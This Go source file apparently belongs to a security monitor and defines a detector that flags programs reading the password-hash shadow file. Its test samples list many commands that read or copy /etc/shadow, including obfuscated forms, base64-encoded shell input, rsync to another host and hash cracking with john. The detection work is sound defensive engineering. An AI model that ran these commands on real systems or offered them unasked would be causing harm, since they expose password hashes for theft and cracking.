package detect

import (
	"slices"
	"strings"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var credShadow = Detector{
	ID: "cred.shadow", Level: coi.High, Wants: files,
	Title: "password hashes read",
	Why:   "only programs that check or set passwords have a reason to open the shadow file",
	Detect: either(shadow, func(ev event.Event, v track.View) []Finding {
		if !readEvent(ev) || !paths.Any(v.PathClasses(ev.Path), paths.Shadow) || inWorkspace(v, ev.Path) {
			return nil
		}
		if p := v.Proc(); p.Class == program.Account || p.Class == program.Package || oneOf(p.Name, "sshd", "cron", "systemd") || installing(p, v) {
			return nil
		}
		return one(Finding{Level: coi.High, Title: "password hashes read by " + v.Proc().Name, Path: ev.Path, Op: "open", PID: ev.PID})
	}),
	Fire: append(lines(coi.High, "python3 -c 'import spwd; print(spwd.getspall())'", "cat /etc/shadow", "sudo cat /etc/shadow", "cp /etc/shadow /tmp/s", "sudo tar czf x.tgz /etc/shadow", "base64 < /etc/shadow", "unshadow /etc/passwd /etc/shadow > h", "dd if=/etc/shadow", "head -1 /etc/gshadow",
		"awk -F: '{print $2}' /etc/shadow", "python3 -c \"print(open('/etc/shadow').read())\"", "cd /etc && sudo less shadow", "cat /etc/sha*w", "vi /etc/shadow", "while read l; do echo $l; done < /etc/shadow", "/tmp/zz /etc/shadow", "c'a't /e\"tc\"/shadow",
		"X=/etc/shadow; cat $X", "xxd /etc/shadow", "sudo rsync /etc/shadow h:/x", "curl file:///etc/shadow", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", "perl -ne print /etc/shadow", "getent shadow", "john /etc/shadow", "docker exec c cat /etc/shadow", "grep root /etc/shadow", "date -f /etc/shadow", "arp -v -f /etc/shadow", "ip -force -batch /etc/shadow", "busybox cat /etc/shadow", "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/shadow", "/proc/self/root/bin/cat /etc/shadow", "cp /bin/cat /tmp/k; /tmp/k /etc/shadow", "printf '#!/bin/sh\\ncat /etc/shadow\\n' > /tmp/a.sh; sh /tmp/a.sh"),
		append(events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/cat", Path: "/etc/shadow"}), Sample{Level: coi.High, Events: installSample("apt-get", "/usr/bin/perl", "perl", "/tmp/x.pl")},
			Sample{Level: coi.High, Events: installSample("apt-get", "/usr/bin/xxd", "xxd", "x")}, Sample{Level: coi.High, Events: installSample("bash", "/usr/bin/perl", "perl", "/usr/share/x.pl")})...),
	Quiet: append(lines("", "ls -l /etc/shadow", "sudo passwd x", "useradd x", "grep -r shadow src/", "stat /etc/shadow", "echo /etc/shadow", "git grep /etc/shadow", "cat ./etc/shadow.go", "rg 'cat /etc/shadow' ."),
		append(events(event.Event{Type: event.Open, PID: 3, Exe: "/usr/bin/sudo", Path: "/etc/shadow"}),
			Sample{Level: coi.Warning, Events: installSample("apt-get", "/usr/bin/perl", "/usr/bin/perl", "-w", "/usr/sbin/dpkg-preconfigure", "--apt")},
			Sample{Level: coi.Warning, Events: installSample("dpkg", "/usr/bin/cmp", "cmp", "-s", "a", "b")},
			Sample{Level: coi.Warning, Events: installSample("bash", "/usr/bin/perl", "/usr/bin/perl", "/usr/sbin/adduser", "x")})...),
}

// installSample is a program that a package manager started, and that opens the
// shadow file without naming it.
func installSample(manager, exe string, argv ...string) []event.Event {
	return []event.Event{
		{Type: event.Exec, PID: 40, PPID: 1, Exe: "/usr/bin/" + manager, Argv: []string{manager, "install", "x"}},
		{Type: event.Exec, PID: 41, PPID: 40, Exe: exe, Argv: argv},
		{Type: event.Open, PID: 41, PPID: 40, Exe: exe, Argv: argv, Path: "/etc/shadow"},
	}
}

// installing reports the system's own work on its accounts: what dpkg and its
// like start for a package, and scripts of the system that a package manager
// starts, or that are account programs themselves. What a hook on the command
// line of a package manager starts is neither.
func installing(p track.Process, v track.View) bool {
	if !hasPrefixAny(p.Exe, "/usr/", "/bin/", "/sbin/") {
		return false
	}
	for _, n := range v.Names() {
		if oneOf(n, "dpkg", "rpm", "apk", "pacman") {
			return true
		}
	}
	for _, a := range p.Argv[min(1, len(p.Argv)):] {
		if strings.HasPrefix(a, "-") {
			continue
		}
		return p.Class == program.Interpreter && hasPrefixAny(a, "/usr/sbin/", "/usr/bin/", "/usr/share/", "/usr/lib/") && !strings.Contains(a, "..") &&
			(v.Under(program.Package) || program.ClassOf(a) == program.Account)
	}
	return false
}

func shadow(s *command.Simple, v track.View) *Finding {
	if s.Name == "getent" && s.Arg("shadow", "gshadow") {
		return say(s, coi.High, "password hashes listed")
	}
	if s.Class() == program.Account || packaged(s, v) || oneOf(s.Name, "echo", "printf", "test", "[", "git", "man") && len(s.Redirs) == 0 {
		return nil
	}
	for _, a := range s.Accesses() {
		if a.Op == command.Link && paths.Any(paths.Of(a.Path2, false), paths.Shadow, paths.Keys) && !inWorkspace(v, a.Path2) {
			return say(s, coi.High, "link to a secret file").at(a.Path2, a.Op)
		}
		if !paths.Any(classes(v, a), paths.Shadow) {
			continue
		}
		if taken(a) || a.Op == command.Use && s.Class() != program.Account {
			return say(s, coi.High, "password hashes read by "+s.Name).at(a.Path, a.Op)
		}
	}
	for _, c := range s.Code {
		if !c.File && hasAny(c.Text, "spwd.getsp", "getspnam", "getspent", "Etc.getspnam") {
			return say(s, coi.High, "password hashes read by code")
		}
	}
	if p := namedShadow(s, v); p != "" {
		return say(s, coi.High, "password hashes read by "+s.Name).at(p, command.Read)
	}
	if hasAny(s.Line(), "file:///etc/shadow") && s.Class() == program.Downloader {
		return say(s, coi.High, "password hashes read by "+s.Name).at("/etc/shadow", command.Read)
	}
	return nil
}

// namedShadow is a shadow file that stands in a word of which nobody knows what
// the program does with it: the value of an option, after an equals or at sign.
func namedShadow(s *command.Simple, v track.View) string {
	if s.Name == "" || textual(s) || s.Class() == program.Shell || s.Class() == program.Runtime || s.Class() == program.Build {
		return ""
	}
	for _, a := range s.Argv[min(1, len(s.Argv)):] {
		if !strings.Contains(a, "shadow") {
			continue
		}
		p := s.Abs(a[strings.LastIndexAny(a, "=@")+1:])
		known := slices.ContainsFunc(s.Accesses(), func(x command.Access) bool { return x.Path == p })
		if !known && !inWorkspace(v, p) && paths.Any(paths.Of(p, false), paths.Shadow) {
			return p
		}
	}
	return ""
}
